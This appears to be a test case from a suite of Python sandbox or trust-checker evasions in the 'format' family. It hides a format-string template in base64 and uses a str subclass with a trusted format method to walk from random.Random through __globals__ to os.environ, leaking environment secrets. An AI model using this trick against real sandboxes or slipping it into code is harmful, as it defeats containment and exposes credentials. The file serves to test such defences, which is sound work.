# family: format
# Escape: str.format(t, ...) is judged by the trust of t; t is an instance of a tool class with its own format
# method, which is trusted. The class also derives from str, so t *is* the base64-decoded template
# "{0.__init__.__globals__[_os].environ}", and the unbound str.format walks it from random.Random to os.environ.
import base64
import random


class Label(str):
    def format(self, *args) -> str:
        return str(self)


def tool() -> str:
    label = Label(base64.b64decode("ezAuX19pbml0X18uX19nbG9iYWxzX19bX29zXS5lbnZpcm9ufQ==").decode())
    return str.format(label, random.Random())
